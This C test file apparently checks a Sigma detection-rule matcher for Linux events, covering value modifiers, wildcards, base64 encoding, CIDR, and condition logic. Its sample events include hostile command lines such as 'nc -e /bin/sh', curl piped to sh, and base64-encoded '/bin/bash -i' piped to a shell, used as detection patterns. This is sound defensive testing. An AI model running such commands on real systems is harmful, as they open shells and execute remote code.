/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Golden tests of the Sigma matcher: every value modifier and condition form, with true and
 * false cases, on rules and events written here (several are the specification's own
 * examples, moved to Linux fields).
 */
#include "config.h"

#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "sigma-test.h"

#define HIT(rule, event) assert_int_equal(sigma_hit(rule, event), 1)
#define MISS(rule, event) assert_int_equal(sigma_hit(rule, event), 0)

/* A process start with a command line, an image and a user. */
#define P(cmd, img) PROC("'cmd_line':'" cmd "','file':{'path':'" img "'},'user':{'name':'root'}")

static void plain_values(void **state)
{
	const char *r = PC("    sel:\n        Image: '/usr/bin/whoami'\n    condition: sel\n");

	(void)state;
	HIT(r, P("whoami", "/usr/bin/whoami"));
	/* Values compare case-insensitively by default. */
	HIT(r, P("whoami", "/USR/BIN/WhoAmI"));
	MISS(r, P("whoami", "/usr/bin/whoami2"));
	MISS(r, P("whoami", "/usr/bin/who"));
	/* A field the event lacks does not match. */
	MISS(r, PROC("'cmd_line':'whoami'"));
	/* A number compares as its text. */
	HIT(PC("    sel:\n        ProcessId: 42\n    condition: sel\n"), PROC("'pid':42"));
	MISS(PC("    sel:\n        ProcessId: 42\n    condition: sel\n"), PROC("'pid':420"));
}

/* The specification's map and list examples: a map is AND, a list of values is OR. */
static void maps_and_lists(void **state)
{
	const char *r = PC("    sel:\n        User: root\n        Image:\n            - '/usr/bin/id'\n"
			   "            - '/usr/bin/whoami'\n    condition: sel\n");
	const char *list_of_maps = PC("    sel:\n        - Image|endswith: '/example'\n"
				      "        - CommandLine|contains: 'Test executable'\n    condition: sel\n");

	(void)state;
	HIT(r, P("id", "/usr/bin/id"));
	HIT(r, P("whoami", "/usr/bin/whoami"));
	MISS(r, P("ls", "/usr/bin/ls"));
	MISS(r, PROC("'cmd_line':'id','file':{'path':'/usr/bin/id'},'user':{'name':'alice'}"));
	HIT(list_of_maps, P("x", "/opt/example"));
	HIT(list_of_maps, P("run Test executable now", "/opt/other"));
	MISS(list_of_maps, P("run test", "/opt/other"));
}

static void contains_startswith_endswith(void **state)
{
	(void)state;
	HIT(PC("    sel:\n        CommandLine|contains: ' -e '\n    condition: sel\n"), P("nc -e /bin/sh", "/usr/bin/nc"));
	MISS(PC("    sel:\n        CommandLine|contains: ' -e '\n    condition: sel\n"), P("nc -ev x", "/usr/bin/nc"));
	HIT(PC("    sel:\n        Image|startswith: '/tmp/'\n    condition: sel\n"), P("x", "/tmp/a/x"));
	MISS(PC("    sel:\n        Image|startswith: '/tmp/'\n    condition: sel\n"), P("x", "/var/tmp/x"));
	HIT(PC("    sel:\n        Image|endswith: '/nc'\n    condition: sel\n"), P("x", "/usr/bin/nc"));
	MISS(PC("    sel:\n        Image|endswith: '/nc'\n    condition: sel\n"), P("x", "/usr/bin/ncat"));
	/* Case-insensitive here too. */
	HIT(PC("    sel:\n        CommandLine|contains: 'BASE64'\n    condition: sel\n"), P("base64 -d", "/b"));
}

static void all_modifier(void **state)
{
	const char *r = PC("    sel:\n        CommandLine|contains|all:\n            - 'chmod'\n"
			   "            - '+x'\n    condition: sel\n");
	/* The specification's keyword example with |all. */
	const char *kw = PC("    keywords_cmdlet:\n        '|all':\n            - 'OabVirtualDirectory'\n"
			    "            - ' -ExternalUrl '\n    condition: keywords_cmdlet\n");

	(void)state;
	HIT(r, P("chmod +x /tmp/a", "/usr/bin/chmod"));
	HIT(r, P("/bin/chmod u+x,g+x f", "/usr/bin/chmod"));
	MISS(r, P("chmod 755 /tmp/a", "/usr/bin/chmod"));
	HIT(kw, P("set OabVirtualDirectory -ExternalUrl http://x", "/x"));
	MISS(kw, P("set OabVirtualDirectory", "/x"));
	/* Without all, a list is any. */
	HIT(PC("    sel:\n        CommandLine|contains:\n            - 'chmod'\n            - '+x'\n    condition: sel\n"),
	    P("ls +x", "/x"));
}

static void cased(void **state)
{
	const char *r = PC("    sel:\n        CommandLine|cased: 'Evil'\n    condition: sel\n");

	(void)state;
	HIT(r, P("Evil", "/x"));
	MISS(r, P("evil", "/x"));
	MISS(r, P("EVIL", "/x"));
	HIT(PC("    sel:\n        CommandLine|contains|cased: ' -D'\n    condition: sel\n"), P("ssh -D 1080 h", "/x"));
	MISS(PC("    sel:\n        CommandLine|contains|cased: ' -D'\n    condition: sel\n"), P("ssh -d 1080 h", "/x"));
}

static void wildcards(void **state)
{
	const char *q = PC("    sel:\n        Image: '/usr/bin/prog?'\n    condition: sel\n");
	const char *star = PC("    sel:\n        Image: '/home/*/public_html/*'\n    condition: sel\n");

	(void)state;
	/* The specification's examples: `prog?.exe`, `antivirus_V*.exe`. */
	HIT(q, P("x", "/usr/bin/progA"));
	HIT(q, P("x", "/usr/bin/progB"));
	MISS(q, P("x", "/usr/bin/prog"));
	MISS(q, P("x", "/usr/bin/progAB"));
	/* `?` is one character, even a multibyte one. */
	HIT(q, P("x", "/usr/bin/prog\u00e9"));
	HIT(PC("    sel:\n        Image: '/opt/antivirus_V*'\n    condition: sel\n"), P("x", "/opt/antivirus_V21.2.1"));
	HIT(star, P("x", "/home/alice/public_html/shell.php"));
	MISS(star, P("x", "/home/alice/private/shell.php"));
	/* A lone star matches any value, not a missing field. */
	HIT(PC("    sel:\n        CommandLine: '*'\n    condition: sel\n"), P("", "/x"));
	MISS(PC("    sel:\n        CommandLine: '*'\n    condition: sel\n"), PROC("'pid':1"));
	/* Stars inside a value. */
	HIT(PC("    sel:\n        CommandLine: 'curl * | *sh'\n    condition: sel\n"), P("curl http://x/a | sh", "/x"));
	MISS(PC("    sel:\n        CommandLine: 'curl * | *sh'\n    condition: sel\n"), P("curl http://x/a > sh.txt", "/x"));
}

/* The specification's escape rules: \* and \? are plain, \\ before a wildcard is a
 * backslash, a backslash elsewhere is itself. */
static void escapes(void **state)
{
	(void)state;
	HIT(PC("    sel:\n        CommandLine: 'a\\*b'\n    condition: sel\n"), P("a*b", "/x"));
	MISS(PC("    sel:\n        CommandLine: 'a\\*b'\n    condition: sel\n"), P("axxb", "/x"));
	HIT(PC("    sel:\n        CommandLine: 'what\\?'\n    condition: sel\n"), P("what?", "/x"));
	MISS(PC("    sel:\n        CommandLine: 'what\\?'\n    condition: sel\n"), P("whats", "/x"));
	/* \\* : a backslash, then a wildcard. */
	HIT(PC("    sel:\n        CommandLine: 'C:\\\\*'\n    condition: sel\n"), P("C:\\\\Windows", "/x"));
	MISS(PC("    sel:\n        CommandLine: 'C:\\\\*'\n    condition: sel\n"), P("C:Windows", "/x"));
	/* \\\* : a backslash and a plain star. */
	HIT(PC("    sel:\n        CommandLine: 'a\\\\\\*'\n    condition: sel\n"), P("a\\\\*", "/x"));
	MISS(PC("    sel:\n        CommandLine: 'a\\\\\\*'\n    condition: sel\n"), P("a\\\\b", "/x"));
	/* A single backslash before an ordinary character is itself; \\\\ is two. */
	HIT(PC("    sel:\n        CommandLine: 'C:\\Windows'\n    condition: sel\n"), P("C:\\\\Windows", "/x"));
	HIT(PC("    sel:\n        CommandLine: 'a\\\\\\\\b'\n    condition: sel\n"), P("a\\\\\\\\b", "/x"));
}

/* The specification's null example: `field: null` is the field absent (or null). */
static void null_and_empty(void **state)
{
	const char *r = PC("    sel:\n        Image|endswith: '/sh'\n    filter:\n        ParentCommandLine: null\n"
			   "    condition: sel and not filter\n");
	const char *empty = PC("    sel:\n        CommandLine: ''\n    condition: sel\n");

	(void)state;
	HIT(r, PROC("'file':{'path':'/bin/sh'},'parent_process':{'cmd_line':'bash'}"));
	MISS(r, PROC("'file':{'path':'/bin/sh'}"));
	MISS(r, PROC("'file':{'path':'/bin/sh'},'parent_process':{'cmd_line':null}"));
	HIT(empty, P("", "/x"));
	MISS(empty, P(" ", "/x"));
	MISS(empty, PROC("'pid':1"));
	/* 1 of a null and an empty selection, as the specification writes it. */
	HIT(PC("    main:\n        Image: '/x'\n    empty1:\n        CommandLine: ''\n    empty2:\n        CommandLine: null\n"
	       "    condition: main and 1 of empty*\n"), PROC("'file':{'path':'/x'}"));
}

static void keywords(void **state)
{
	const char *r = PC("    keywords:\n        - 'event::clear'\n        - 'event::drop'\n    condition: keywords\n");
	const char *au = AUDIT("    keywords:\n        - 'truncate'\n    condition: keywords\n");

	(void)state;
	/* Keywords are searched in every mapped field of the source. */
	HIT(r, P("mimikatz event::clear", "/x"));
	HIT(r, PROC("'file':{'path':'/opt/EVENT::DROP'}"));
	MISS(r, P("event::list", "/x"));
	/* In an audit record, in every field. */
	HIT(au, RECORDS("{'type':'EXECVE','a0':'truncate','a1':'-s'}"));
	MISS(au, RECORDS("{'type':'EXECVE','a0':'dd'}"));
}

static void regular_expressions(void **state)
{
	(void)state;
	/* Search semantics, case-sensitive by default. */
	HIT(PC("    sel:\n        CommandLine|re: '-D'\n    condition: sel\n"), P("ssh -D 8080", "/x"));
	MISS(PC("    sel:\n        CommandLine|re: '-D'\n    condition: sel\n"), P("ssh -d 8080", "/x"));
	HIT(PC("    sel:\n        CommandLine|re|i: '-D'\n    condition: sel\n"), P("ssh -d 8080", "/x"));
	HIT(PC("    sel:\n        CommandLine|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/'\n    condition: sel\n"),
	    P("/LIB/python3.11/x", "/x"));
	HIT(PC("    sel:\n        CommandLine|re: '[^/]{10,}$'\n    condition: sel\n"), P("/a/bcdefghijkl", "/x"));
	MISS(PC("    sel:\n        CommandLine|re: '[^/]{10,}$'\n    condition: sel\n"), P("/abcdefghijkl/m", "/x"));
	/* m: ^ and $ at each line; s: the dot takes newlines. */
	HIT(PC("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel\n"), P("first\\nsecond\\nthird", "/x"));
	MISS(PC("    sel:\n        CommandLine|re: '^second$'\n    condition: sel\n"), P("first\\nsecond\\nthird", "/x"));
	HIT(PC("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel\n"), P("first\\nsecond", "/x"));
	MISS(PC("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel\n"), P("first\\nsecond", "/x"));
	/* contains around a regex changes nothing (it searches anyway). */
	HIT(PC("    sel:\n        CommandLine|re|contains: 'b+c'\n    condition: sel\n"), P("abbbcd", "/x"));
}

static void base64_modifiers(void **state)
{
	const char *off = PC("    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n");

	(void)state;
	HIT(PC("    sel:\n        CommandLine|base64: '/bin/bash'\n    condition: sel\n"), P("L2Jpbi9iYXNo", "/x"));
	HIT(PC("    sel:\n        CommandLine|base64|contains: '/bin/bash'\n    condition: sel\n"),
	    P("echo L2Jpbi9iYXNo | base64 -d", "/x"));
	MISS(PC("    sel:\n        CommandLine|base64: '/bin/bash'\n    condition: sel\n"), P("L2Jpbi9iYXNoIC1p", "/x"));
	/* The three offsets of the value inside encoded data. */
	HIT(off, P("echo L2Jpbi9iYXNoIC1p | base64 -d | sh", "/x"));
	HIT(off, P("echo eC9iaW4vYmFzaCAtaQ== | base64 -d | sh", "/x"));
	HIT(off, P("echo eHkvYmluL2Jhc2ggLWk= | base64 -d | sh", "/x"));
	HIT(off, P("echo ZWNobyAvYmluL2Jhc2ggLWk= | base64 -d | sh", "/x"));
	MISS(off, P("echo L2Jpbi9kYXNoIC1p | base64 -d | sh", "/x"));
	/* Encodings of UTF-16, then base64. */
	const char *wide = PC("    sel:\n        CommandLine|wide|base64offset|contains: 'cmd'\n    condition: sel\n");

	HIT(wide, P("YwBtAGQALi4=", "/x"));
	HIT(wide, P("eGMAbQBkAC4u", "/x"));
	HIT(wide, P("eHljAG0AZAAuLg==", "/x"));
	MISS(wide, P("Y21k", "/x"));
	HIT(PC("    sel:\n        CommandLine|utf16le|base64: 'cmd'\n    condition: sel\n"), P("YwBtAGQA", "/x"));
	HIT(PC("    sel:\n        CommandLine|utf16be|base64: 'cmd'\n    condition: sel\n"), P("AGMAbQBk", "/x"));
	HIT(PC("    sel:\n        CommandLine|utf16|base64: 'cmd'\n    condition: sel\n"), P("//5jAG0AZAA=", "/x"));
	MISS(PC("    sel:\n        CommandLine|utf16|base64: 'cmd'\n    condition: sel\n"), P("YwBtAGQA", "/x"));
}

static void windash(void **state)
{
	const char *r = PC("    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel\n");

	(void)state;
	HIT(r, P("find . -exec rm", "/x"));
	HIT(r, P("find . /exec rm", "/x"));
	HIT(r, P("find . \u2013exec rm", "/x"));
	HIT(r, P("find . \u2014exec rm", "/x"));
	HIT(r, P("find . \u2015exec rm", "/x"));
	MISS(r, P("find . +exec rm", "/x"));
	/* Only a dash that starts a word: in `a-b` it stays. */
	HIT(PC("    sel:\n        CommandLine|windash: 'a-b'\n    condition: sel\n"), P("a-b", "/x"));
	MISS(PC("    sel:\n        CommandLine|windash: 'a-b'\n    condition: sel\n"), P("a/b", "/x"));
}

static void cidr(void **state)
{
	const char *r = NET("    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fe80::/10'\n"
			    "    condition: sel\n");

	(void)state;
	HIT(r, NETEV("'dst_endpoint':{'ip':'10.1.2.3'}"));
	HIT(r, NETEV("'dst_endpoint':{'ip':'fe80::1'}"));
	HIT(r, NETEV("'dst_endpoint':{'ip':'::ffff:10.9.9.9'}"));
	MISS(r, NETEV("'dst_endpoint':{'ip':'11.0.0.1'}"));
	MISS(r, NETEV("'dst_endpoint':{'ip':'2001:db8::1'}"));
	MISS(r, NETEV("'dst_endpoint':{'ip':'not an address'}"));
	HIT(NET("    sel:\n        DestinationIp|cidr: '192.168.1.7'\n    condition: sel\n"),
	    NETEV("'dst_endpoint':{'ip':'192.168.1.7'}"));
	HIT(NET("    sel:\n        DestinationIp|cidr: '172.16.0.0/12'\n    condition: sel\n"),
	    NETEV("'dst_endpoint':{'ip':'172.31.255.255'}"));
	MISS(NET("    sel:\n        DestinationIp|cidr: '172.16.0.0/12'\n    condition: sel\n"),
	     NETEV("'dst_endpoint':{'ip':'172.32.0.0'}"));
}

/* The specification's exists example. */
static void exists(void **state)
{
	const char *yes = PC("    sel:\n        Image: '/x'\n        ParentImage|exists: true\n    condition: sel\n");
	const char *no = PC("    sel:\n        Image: '/x'\n        ParentImage|exists: false\n    condition: sel\n");
	const char *with_parent = PROC("'file':{'path':'/x'},'parent_process':{'file':{'path':''}}");
	const char *without = PROC("'file':{'path':'/x'}");

	(void)state;
	HIT(yes, with_parent);
	MISS(yes, without);
	HIT(no, without);
	MISS(no, with_parent);
}

static void fieldref(void **state)
{
	const char *eq = PC("    sel:\n        ParentImage|fieldref: Image\n    condition: sel\n");
	const char *ends = PC("    sel:\n        CommandLine|fieldref|endswith: Image\n    condition: sel\n");

	(void)state;
	HIT(eq, PROC("'file':{'path':'/bin/sh'},'parent_process':{'file':{'path':'/BIN/sh'}}"));
	MISS(eq, PROC("'file':{'path':'/bin/sh'},'parent_process':{'file':{'path':'/bin/bash'}}"));
	HIT(ends, PROC("'file':{'path':'/bin/sh'},'cmd_line':'exec /bin/sh'"));
	MISS(ends, PROC("'file':{'path':'/bin/sh'},'cmd_line':'/bin/sh -c x'"));
	HIT(PC("    sel:\n        CommandLine|fieldref|neq: Image\n    condition: sel\n"),
	    PROC("'file':{'path':'/bin/sh'},'cmd_line':'sh'"));
}

static void comparisons(void **state)
{
	(void)state;
	HIT(NET("    sel:\n        DestinationPort|gt: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':4444}"));
	MISS(NET("    sel:\n        DestinationPort|gt: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':1024}"));
	HIT(NET("    sel:\n        DestinationPort|gte: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':1024}"));
	HIT(NET("    sel:\n        DestinationPort|lt: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':22}"));
	MISS(NET("    sel:\n        DestinationPort|lt: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':1024}"));
	HIT(NET("    sel:\n        DestinationPort|lte: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':1024}"));
	MISS(NET("    sel:\n        DestinationPort|lte: 1024\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':'x'}"));
	HIT(NET("    sel:\n        DestinationPort|gt: 1.5\n    condition: sel\n"), NETEV("'dst_endpoint':{'port':2}"));
}

static void neq(void **state)
{
	const char *r = PC("    sel:\n        User|neq: root\n    condition: sel\n");
	const char *list = PC("    sel:\n        User|neq:\n            - root\n            - daemon\n    condition: sel\n");

	(void)state;
	HIT(r, PROC("'user':{'name':'alice'}"));
	MISS(r, PROC("'user':{'name':'ROOT'}"));
	HIT(list, PROC("'user':{'name':'alice'}"));
	MISS(list, PROC("'user':{'name':'daemon'}"));
	HIT(PC("    sel:\n        CommandLine|contains|neq: 'sudo'\n    condition: sel\n"), P("ls", "/x"));
	MISS(PC("    sel:\n        CommandLine|contains|neq: 'sudo'\n    condition: sel\n"), P("sudo ls", "/x"));
}

static void expand(void **state)
{
	const char *r = PC("    sel:\n        User|expand: '%Administrators%'\n    condition: sel\n");
	const char *plain = PC("    sel:\n        CommandLine|expand: '\\%plain%name%'\n    condition: sel\n");
	const char *admins[] = { "root", "admin*" };
	const char *names[] = { "X" };
	struct vg_sigma_set *set;
	struct vg_error err;
	char buf[1024];

	(void)state;
	/* Without values the rule is refused, with the reason. */
	assert_non_null(strstr(sigma_reject(r, buf, sizeof(buf)), "placeholder %Administrators% has no values"));
	assert_int_equal(vg_sigma_set_new(NULL, &set), 0);
	assert_int_equal(vg_sigma_set_placeholder(set, "Administrators", admins, 2), 0);
	assert_int_equal(vg_sigma_set_placeholder(set, "name", names, 1), 0);
	assert_int_equal(vg_sigma_set_add_memory(set, r, strlen(r), "r.yml", &err), 1);
	assert_int_equal(vg_sigma_set_add_memory(set, plain, strlen(plain), "p.yml", &err), 0);   /* same id */
	assert_int_equal(vg_sigma_set_compile(set, &err), 0);
	assert_int_equal(sigma_count(set, PROC("'user':{'name':'root'}")), 1);
	assert_int_equal(sigma_count(set, PROC("'user':{'name':'administrator'}")), 1);
	assert_int_equal(sigma_count(set, PROC("'user':{'name':'alice'}")), 0);
	vg_sigma_set_free(set);

	/* `\%plain` stays, `%name%` is replaced. */
	assert_int_equal(vg_sigma_set_new(NULL, &set), 0);
	assert_int_equal(vg_sigma_set_placeholder(set, "name", names, 1), 0);
	assert_int_equal(vg_sigma_set_add_memory(set, plain, strlen(plain), "p.yml", &err), 1);
	assert_int_equal(vg_sigma_set_compile(set, &err), 0);
	assert_int_equal(sigma_count(set, P("%plainX", "/x")), 1);
	assert_int_equal(sigma_count(set, P("%plain%name%", "/x")), 0);
	vg_sigma_set_free(set);
	/* Without expand, a placeholder is plain text. */
	HIT(PC("    sel:\n        CommandLine: '%name%'\n    condition: sel\n"), P("%name%", "/x"));
}

static void time_parts(void **state)
{
	const char *hour = AUDIT("    sel:\n        type: USER_LOGIN\n        when|hour: 3\n    condition: sel\n");

	(void)state;
	HIT(hour, RECORDS("{'type':'USER_LOGIN','when':'2026-03-01T03:15:00Z'}"));
	MISS(hour, RECORDS("{'type':'USER_LOGIN','when':'2026-03-01T13:15:00Z'}"));
	/* Milliseconds since the epoch: 2026-03-01T03:15:00Z. */
	HIT(hour, RECORDS("{'type':'USER_LOGIN','when':1772334900000}"));
	HIT(AUDIT("    sel:\n        when|minute: 15\n    condition: sel\n"), RECORDS("{'when':'2026-03-01 03:15:59'}"));
	HIT(AUDIT("    sel:\n        when|day: 1\n    condition: sel\n"), RECORDS("{'when':'2026-03-01'}"));
	HIT(AUDIT("    sel:\n        when|month: 3\n    condition: sel\n"), RECORDS("{'when':'2026-03-01'}"));
	HIT(AUDIT("    sel:\n        when|year: 2026\n    condition: sel\n"), RECORDS("{'when':'2026-03-01'}"));
	HIT(AUDIT("    sel:\n        when|week: 9\n    condition: sel\n"), RECORDS("{'when':'2026-03-01'}"));
	MISS(AUDIT("    sel:\n        when|week: 10\n    condition: sel\n"), RECORDS("{'when':'2026-03-01'}"));
	MISS(AUDIT("    sel:\n        when|year: 2026\n    condition: sel\n"), RECORDS("{'when':'yesterday'}"));
}

/* Several values of a field (an array): any value may match. */
static void multi_values(void **state)
{
	const char *r = AUDIT("    sel:\n        a|contains|all:\n            - 'x'\n            - 'y'\n    condition: sel\n");

	(void)state;
	HIT(r, RECORDS("{'a':['ax','by']}"));
	HIT(r, RECORDS("{'a':['xy']}"));
	MISS(r, RECORDS("{'a':['ax','bz']}"));
}

static void conditions(void **state)
{
	/* Precedence: or < and < not. */
	const char *prec = PC("    a:\n        CommandLine|contains: 'aa'\n    b:\n        CommandLine|contains: 'bb'\n"
			      "    c:\n        CommandLine|contains: 'cc'\n    condition: a or b and c\n");
	const char *notp = PC("    a:\n        CommandLine|contains: 'aa'\n    b:\n        CommandLine|contains: 'bb'\n"
			      "    condition: not a and b\n");
	const char *paren = PC("    a:\n        CommandLine|contains: 'aa'\n    b:\n        CommandLine|contains: 'bb'\n"
			       "    c:\n        CommandLine|contains: 'cc'\n    condition: (a or b) and c\n");

	(void)state;
	HIT(prec, P("aa", "/x"));
	MISS(prec, P("bb", "/x"));
	HIT(prec, P("bb cc", "/x"));
	HIT(notp, P("bb", "/x"));
	MISS(notp, P("aa bb", "/x"));
	MISS(paren, P("aa", "/x"));
	HIT(paren, P("aa cc", "/x"));
	HIT(paren, P("bb cc", "/x"));
	/* Keywords of the condition are not case-sensitive; double not. */
	HIT(PC("    a:\n        CommandLine|contains: 'aa'\n    condition: NOT not a\n"), P("aa", "/x"));
	/* A list of conditions is any of them. */
	HIT(PC("    a:\n        CommandLine|contains: 'aa'\n    b:\n        CommandLine|contains: 'bb'\n"
	       "    condition:\n        - a\n        - b\n"), P("bb", "/x"));
}

static void quantifiers(void **state)
{
	const char *sels = "    selection_a:\n        CommandLine|contains: 'aa'\n    selection_b:\n        CommandLine|contains: 'bb'\n"
			   "    _private:\n        CommandLine|contains: 'zz'\n    filter:\n        CommandLine|contains: 'ff'\n";
	char r[2048];

	(void)state;
	snprintf(r, sizeof(r), PC("%s    condition: 1 of selection_*\n"), sels);
	HIT(r, P("aa", "/x"));
	HIT(r, P("bb", "/x"));
	MISS(r, P("ff", "/x"));
	snprintf(r, sizeof(r), PC("%s    condition: all of selection_*\n"), sels);
	HIT(r, P("aa bb", "/x"));
	MISS(r, P("aa", "/x"));
	snprintf(r, sizeof(r), PC("%s    condition: 1 of selection* and not 1 of filter*\n"), sels);
	HIT(r, P("aa", "/x"));
	MISS(r, P("aa ff", "/x"));
	/* them: every search identifier but those starting with _. */
	snprintf(r, sizeof(r), PC("%s    condition: 1 of them\n"), sels);
	HIT(r, P("ff", "/x"));
	MISS(r, P("zz", "/x"));
	snprintf(r, sizeof(r), PC("%s    condition: all of them\n"), sels);
	HIT(r, P("aa bb ff", "/x"));
	MISS(r, P("aa bb", "/x"));
	/* A pattern may have its star anywhere. */
	snprintf(r, sizeof(r), PC("%s    condition: all of *_a\n"), sels);
	HIT(r, P("aa", "/x"));
}

/* The selections that held are reported with the match, and the rule's metadata. */
static void match_details(void **state)
{
	const char *r = "title: Shell pipe\nid: 6b3b2e5a-5f1c-4f8e-9a59-0d8c3f1a2b3c\nstatus: test\nlevel: high\n"
			"description: curl piped to a shell\nreferences:\n    - https://example.org/a\n"
			"falsepositives:\n    - Installers\ntags:\n    - attack.execution\n    - attack.t1059.004\n"
			"    - attack.g0032\n    - cve.2021-44228\nlogsource:\n    product: linux\n    category: process_creation\n"
			"detection:\n    sel_curl:\n        CommandLine|contains: 'curl'\n    sel_sh:\n        CommandLine|endswith: '| sh'\n"
			"    sel_wget:\n        CommandLine|contains: 'wget'\n    condition: sel_curl and sel_sh or sel_wget\n";
	struct vg_sigma_set *set = sigma_set(r);
	struct vg_sigma_matcher *m;
	json_t *ev = sigma_json(P("curl http://x | sh", "/usr/bin/curl"));
	const struct vg_sigma_match *mt;
	const struct vg_sigma_rule_info *in;

	(void)state;
	assert_non_null(set);
	assert_int_equal(vg_sigma_matcher_new(set, &m), 0);
	assert_int_equal(vg_sigma_matcher_eval_ocsf(m, ev, 77, 5000), 1);
	mt = vg_sigma_matcher_match(m, 0);
	assert_int_equal(mt->event_id, 77);
	assert_int_equal(mt->record, -1);
	assert_int_equal(mt->source, VG_SIGMA_SRC_PROCESS_CREATION);
	assert_int_equal(mt->selections.n, 2);
	assert_string_equal(mt->selections.v[0], "sel_curl");
	assert_string_equal(mt->selections.v[1], "sel_sh");
	in = vg_sigma_rule_info(mt->rule);
	assert_string_equal(in->title, "Shell pipe");
	assert_string_equal(in->id, "6b3b2e5a-5f1c-4f8e-9a59-0d8c3f1a2b3c");
	assert_int_equal(in->level, VG_SIGMA_LEVEL_HIGH);
	assert_int_equal(in->status, VG_SIGMA_STATUS_TEST);
	assert_string_equal(vg_sigma_level_name(in->level), "high");
	assert_int_equal(in->techniques.n, 1);
	assert_string_equal(in->techniques.v[0], "T1059.004");
	assert_int_equal(in->tactics.n, 1);
	assert_string_equal(in->tactics.v[0], "execution");
	assert_int_equal(in->tags.n, 4);
	assert_int_equal(in->references.n, 1);
	assert_string_equal(in->falsepositives.v[0], "Installers");
	assert_string_equal(in->description, "curl piped to a shell");
	assert_true(in->reported);
	assert_int_equal(in->selections.n, 3);
	assert_non_null(strstr(in->yaml, "sel_wget"));
	json_decref(ev);
	vg_sigma_matcher_free(m);
	vg_sigma_set_free(set);
}

/* Refused rules, each with a reason that names the problem. */
static void refusals(void **state)
{
	static const struct {
		const char *det;
		const char *why;
	} cases[] = {
		{ "    sel:\n        Image|foo: x\n    condition: sel\n", "unknown modifier 'foo'" },
		{ "    sel:\n        Nonsense: x\n    condition: sel\n", "the field 'Nonsense' has no mapping for process_creation" },
		{ "    sel:\n        CommandLine|re: '(unclosed'\n    condition: sel\n", "bad regular expression '(unclosed'" },
		{ "    sel:\n        CommandLine|base64|re: 'x'\n    condition: sel\n", "'re' must come before" },
		{ "    sel:\n        CommandLine|i: 'x'\n    condition: sel\n", "needs 're' before it" },
		{ "    sel:\n        CommandLine|re|cased: 'x'\n    condition: sel\n", "'re' takes no other modifier" },
		{ "    sel:\n        CommandLine|base64: 'a*'\n    condition: sel\n", "cannot encode a value with wildcards" },
		{ "    sel:\n        CommandLine|contains|base64offset: 'a'\n    condition: sel\n", "cannot encode a value with wildcards" },
		{ "    sel:\n        Image|cidr: '10.0.0.0/33'\n    condition: sel\n", "is not an IP network" },
		{ "    sel:\n        Image|exists: maybe\n    condition: sel\n", "'exists' takes true or false" },
		{ "    sel:\n        ProcessId|gt: many\n    condition: sel\n", "'many' is not a number" },
		{ "    sel:\n        ProcessId|gt|lt: 3\n    condition: sel\n", "only one comparison" },
		{ "    sel:\n        Image|fieldref: Nowhere\n    condition: sel\n", "the field 'Nowhere' has no mapping" },
		{ "    sel:\n        Image|cidr|contains: '10.0.0.0/8'\n    condition: sel\n", "do not go together" },
		{ "    sel:\n        Image:\n            - 'a'\n            - null\n    condition: sel\n", "null cannot be part of a list" },
		{ "    sel:\n        Image: []\n    condition: sel\n", "an empty list of values" },
		{ "    sel:\n        Image:\n            x: y\n    condition: sel\n", "not a map" },
		{ "    sel:\n        '|cidr': '10.0.0.0/8'\n    condition: sel\n", "needs a field name" },
		{ "    sel:\n        Image: x\n    condition: other\n", "the condition names 'other'" },
		{ "    sel:\n        Image: x\n    condition: sel | count() > 5\n", "Sigma 1 aggregations" },
		{ "    sel:\n        Image: x\n    condition: 2 of sel\n", "only '1 of' and 'all of'" },
		{ "    sel:\n        Image: x\n    condition: (sel\n", "')' expected" },
		{ "    sel:\n        Image: x\n    condition: 1 of nothing*\n", "names no search identifier" },
		{ "    sel:\n        Image: x\n    condition: sel and\n", "a search identifier expected" },
		{ "    sel:\n        Image: x\n    condition: sel*\n", "must follow '1 of' or 'all of'" },
		{ "    sel:\n        Image: x\n    condition: ''\n", "the condition is empty" },
		{ "    sel:\n        Image: x\n", "the detection has no condition" },
		{ "    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel\n", "timeframe" },
		{ "    sel:\n        CommandLine|windash: '-a -b -c -d -e -f'\n    condition: sel\n", "expands into more than 4096" },
	};
	char buf[1024], rule[1024];

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(rule, sizeof(rule), PC("%s"), cases[i].det);
		sigma_reject(rule, buf, sizeof(buf));
		if (!strstr(buf, cases[i].why))
			fail_msg("case %zu: expected \"%s\" in \"%s\"", i, cases[i].why, buf);
		/* Every reason names the file, line and column. */
		assert_true(strncmp(buf, "test.yml:", 9) == 0);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_values),
		cmocka_unit_test(maps_and_lists),
		cmocka_unit_test(contains_startswith_endswith),
		cmocka_unit_test(all_modifier),
		cmocka_unit_test(cased),
		cmocka_unit_test(wildcards),
		cmocka_unit_test(escapes),
		cmocka_unit_test(null_and_empty),
		cmocka_unit_test(keywords),
		cmocka_unit_test(regular_expressions),
		cmocka_unit_test(base64_modifiers),
		cmocka_unit_test(windash),
		cmocka_unit_test(cidr),
		cmocka_unit_test(exists),
		cmocka_unit_test(fieldref),
		cmocka_unit_test(comparisons),
		cmocka_unit_test(neq),
		cmocka_unit_test(expand),
		cmocka_unit_test(time_parts),
		cmocka_unit_test(multi_values),
		cmocka_unit_test(conditions),
		cmocka_unit_test(quantifiers),
		cmocka_unit_test(match_details),
		cmocka_unit_test(refusals),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
